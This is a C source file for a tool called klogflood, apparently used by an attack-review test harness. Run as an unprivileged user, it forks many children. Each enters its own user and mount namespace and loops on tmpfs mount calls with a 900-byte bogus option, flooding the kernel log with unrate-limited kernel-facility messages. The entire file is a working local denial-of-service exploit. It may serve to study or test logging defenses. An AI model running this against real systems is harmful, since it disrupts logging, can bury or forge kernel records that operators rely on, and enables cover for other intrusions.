/* Floods the kernel log with kernel-facility records, as an unprivileged
 * user: each of PROCS children enters a user and mount namespace of its
 * own and asks for a tmpfs mount with an unknown ~900-byte option, which
 * the kernel logs ("tmpfs: Unknown parameter '...'") at facility 0 with no
 * rate limit. Used by attack_review.rs.
 *
 *   klogflood PROCS SECONDS    prints the calls made per child
 */
#define _GNU_SOURCE
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double since(const struct timespec *t0) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)(t.tv_sec - t0->tv_sec) + (double)(t.tv_nsec - t0->tv_nsec) / 1e9;
}

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: klogflood PROCS SECONDS\n");
        return 2;
    }
    int procs = atoi(argv[1]);
    double secs = atof(argv[2]);
    static char opt[900];
    memset(opt, 'x', sizeof opt - 1);
    for (int i = 0; i < procs; i++) {
        pid_t pid = fork();
        if (pid < 0) {
            perror("fork");
            return 1;
        }
        if (pid == 0) {
            if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
                perror("unshare");
                _exit(1);
            }
            struct timespec t0;
            clock_gettime(CLOCK_MONOTONIC, &t0);
            long n = 0;
            for (;;) {
                (void)mount("none", "/", "tmpfs", 0, opt);
                if ((++n & 255) == 0 && since(&t0) > secs)
                    break;
            }
            printf("%ld\n", n);
            fflush(stdout);
            _exit(0);
        }
    }
    int status, failed = 0;
    while (wait(&status) > 0)
        failed |= !WIFEXITED(status) || WEXITSTATUS(status) != 0;
    return failed;
}
